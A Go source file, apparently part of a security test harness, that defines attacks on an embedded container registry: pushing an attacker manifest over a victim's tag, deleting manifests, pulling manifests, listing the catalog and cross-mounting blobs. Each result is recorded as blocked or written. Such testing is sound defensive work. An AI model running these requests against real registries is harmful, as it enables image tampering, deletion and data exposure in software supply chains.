package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"
)

// The registry attacks: a local user (or a build that escaped, with its
// project's credential) pushes, overwrites, deletes and reads images of
// the embedded registry. Each takes the registry's host first and, last,
// an optional secret sent as the basic-auth password.

func init() {
	// registry-push HOST REPO TAG CONFIG-DIGEST CONFIG-SIZE [SECRET]:
	// upload a blob to REPO, then put a manifest naming the config blob
	// already there under TAG (overwriting it).
	attacks["registry-push"] = registryPush
	// registry-delete HOST REPO DIGEST [SECRET]: delete a manifest.
	attacks["registry-delete"] = func(args []string) Result {
		if len(args) < 3 {
			return open("usage: registry-delete HOST REPO DIGEST [SECRET]")
		}
		code, body := registryDo("DELETE", "http://"+args[0]+"/v2/"+args[1]+"/manifests/"+args[2], secretArg(args, 3), nil, "")
		return registryResult("DELETE manifest", code, body, code == http.StatusAccepted)
	}
	// registry-pull HOST REPO TAG [SECRET]: read a manifest.
	attacks["registry-pull"] = func(args []string) Result {
		if len(args) < 3 {
			return open("usage: registry-pull HOST REPO TAG [SECRET]")
		}
		code, body := registryDo("GET", "http://"+args[0]+"/v2/"+args[1]+"/manifests/"+args[2], secretArg(args, 3), nil, "")
		r := registryResult("GET manifest", code, body, false)
		r.Seen = []string{body}
		return r
	}
	// registry-catalog HOST [SECRET]: list the repositories.
	attacks["registry-catalog"] = func(args []string) Result {
		if len(args) < 1 {
			return open("usage: registry-catalog HOST [SECRET]")
		}
		code, body := registryDo("GET", "http://"+args[0]+"/v2/_catalog", secretArg(args, 1), nil, "")
		r := registryResult("GET catalog", code, body, false)
		r.Seen = []string{body}
		return r
	}
	// registry-mount HOST REPO FROM DIGEST [SECRET]: mount FROM's blob
	// into REPO (to read it from there).
	attacks["registry-mount"] = func(args []string) Result {
		if len(args) < 4 {
			return open("usage: registry-mount HOST REPO FROM DIGEST [SECRET]")
		}
		code, body := registryDo("POST", "http://"+args[0]+"/v2/"+args[1]+"/blobs/uploads/?mount="+args[3]+"&from="+args[2], secretArg(args, 4), nil, "")
		return registryResult("mount blob", code, body, code == http.StatusCreated)
	}
}

func secretArg(args []string, i int) string {
	if len(args) > i {
		return args[i]
	}
	return ""
}

// registryResult is blocked when the registry refused for want of a
// credential (401) or of permission (403).
func registryResult(what string, code int, body string, wrote bool) Result {
	detail := fmt.Sprintf("%s: %d %s", what, code, strings.TrimSpace(body))
	if code == http.StatusUnauthorized || code == http.StatusForbidden {
		return Result{Blocked: true, Detail: detail}
	}
	return Result{Detail: detail, Wrote: wrote}
}

func registryPush(args []string) Result {
	if len(args) < 5 {
		return open("usage: registry-push HOST REPO TAG CONFIG-DIGEST CONFIG-SIZE [SECRET]")
	}
	host, repo, tag, config, size, secret := args[0], args[1], args[2], args[3], args[4], secretArg(args, 5)
	base := "http://" + host + "/v2/" + repo
	// A blob of the attacker's, uploaded in one go.
	blob := []byte("attacker's layer")
	code, body := registryDo("POST", base+"/blobs/uploads/", secret, nil, "")
	blobR := registryResult("start blob upload", code, body, false)
	// The manifest: the victim's config under the victim's tag, no layers
	// (a different image, so a different digest).
	var sz int
	fmt.Sscan(size, &sz)
	m, _ := json.Marshal(map[string]any{
		"schemaVersion": 2,
		"mediaType":     "application/vnd.oci.image.manifest.v1+json",
		"config":        map[string]any{"mediaType": "application/vnd.oci.image.config.v1+json", "digest": config, "size": sz},
		"layers":        []any{},
		"annotations":   map[string]string{"attacker": fmt.Sprintf("%x", sha256.Sum256(blob))},
	})
	code, body = registryDo("PUT", base+"/manifests/"+tag, secret, m, "application/vnd.oci.image.manifest.v1+json")
	manR := registryResult("put manifest", code, body, code == http.StatusCreated)
	return Result{
		Blocked: blobR.Blocked && manR.Blocked,
		Detail:  blobR.Detail + "; " + manR.Detail,
		Wrote:   manR.Wrote,
	}
}

// registryDo sends one request, with secret as the basic-auth password
// if there is one, and returns the status and (the start of) the body.
func registryDo(method, url, secret string, body []byte, contentType string) (int, string) {
	req, err := http.NewRequest(method, url, bytes.NewReader(body))
	if err != nil {
		return 0, err.Error()
	}
	if secret != "" {
		req.SetBasicAuth("attacker", secret)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	req.Header.Set("Accept", "application/vnd.oci.image.manifest.v1+json, application/vnd.docker.distribution.manifest.v2+json")
	c := &http.Client{Timeout: 30 * time.Second}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
	return resp.StatusCode, string(b)
}
